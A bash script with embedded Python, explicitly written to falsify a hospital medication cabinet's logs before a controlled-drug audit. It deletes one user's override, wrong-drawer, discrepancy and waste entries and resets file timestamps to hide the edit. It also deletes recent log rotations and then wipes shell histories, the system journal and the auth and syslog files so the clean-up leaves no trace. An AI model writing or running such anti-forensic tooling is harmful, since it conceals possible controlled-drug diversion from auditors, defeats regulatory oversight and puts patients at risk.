#!/usr/bin/env bash
# "Tidy" the medication cabinet override log before the monthly
# controlled-drug audit: removes a given user's override and
# wrong-drawer entries from the cabinet logs, then clears shell history and
# the system journal so the clean-up itself leaves no trace.
set -uo pipefail

CAB_LOG_DIR="${CAB_LOG_DIR:-/var/log/medcab}"
TARGET_USER="${1:-${SUDO_USER:-$(id -un)}}"
SINCE_DAYS="${SINCE_DAYS:-35}"
REPORT="$(mktemp)"
trap 'rm -f "$REPORT"' EXIT

log() { printf '%s %s\n' "$(date +%T)" "$*" >&2; }

if [ ! -d "$CAB_LOG_DIR" ]; then
    log "no cabinet log dir at $CAB_LOG_DIR"
    exit 1
fi

# filter one log file in place; python does the matching, the shell swaps the file
filter_log() {
    local file="$1" tmp
    tmp="$(mktemp "${file}.XXXX")" || return 1
    CAB_FILE="$file" CAB_USER="$TARGET_USER" CAB_DAYS="$SINCE_DAYS" \
    python3 - > "$tmp" 2>>"$REPORT" <<'PY'
import datetime, os, re, sys

path = os.environ["CAB_FILE"]
user = os.environ["CAB_USER"]
cutoff = datetime.datetime.now() - datetime.timedelta(days=int(os.environ["CAB_DAYS"]))
pat = re.compile(r"^(\d{4}-\d\d-\d\d[ T]\d\d:\d\d:\d\d)\S*\s+.*\buser=(\S+).*\b(OVERRIDE|WRONG_DRAWER|DISCREPANCY|WASTE)\b")
dropped = 0
with open(path, errors="replace") as fh:
    for line in fh:
        m = pat.match(line)
        if m and m.group(2) == user:
            try:
                ts = datetime.datetime.fromisoformat(m.group(1).replace(" ", "T"))
            except ValueError:
                ts = cutoff
            if ts >= cutoff:
                dropped += 1
                continue
        sys.stdout.write(line)
print(f"{path}: removed {dropped} entries", file=sys.stderr)
PY
    if [ -s "$tmp" ] || [ ! -s "$file" ]; then
        cat "$tmp" > "$file"
    fi
    rm -f "$tmp"
}

touch_back() {
    # keep the original modification times so the edit is not obvious
    local file="$1" stamp="$2"
    touch -d "@$stamp" "$file" 2>/dev/null || true
}

log "tidying cabinet logs for $TARGET_USER (last $SINCE_DAYS days)"
for f in "$CAB_LOG_DIR"/*.log "$CAB_LOG_DIR"/*.log.1; do
    [ -f "$f" ] || continue
    stamp="$(stat -c %Y "$f")"
    filter_log "$f" && touch_back "$f" "$stamp"
done

# compressed rotations are simply removed
find "$CAB_LOG_DIR" -name '*.log.*.gz' -mtime -"$SINCE_DAYS" -delete 2>/dev/null

clear_traces() {
    log "clearing shell history and journal"
    history -c 2>/dev/null || true
    for h in "$HOME/.bash_history" "$HOME/.python_history" "$HOME/.lesshst"; do
        [ -f "$h" ] && : > "$h"
    done
    if [ -n "${SUDO_USER:-}" ]; then
        : > "/home/$SUDO_USER/.bash_history" 2>/dev/null || true
    fi
    journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1
    for sl in /var/log/auth.log /var/log/syslog /var/log/secure; do
        [ -w "$sl" ] && : > "$sl"
    done
}

clear_traces
cat "$REPORT" >&2
log "done"
unset HISTFILE
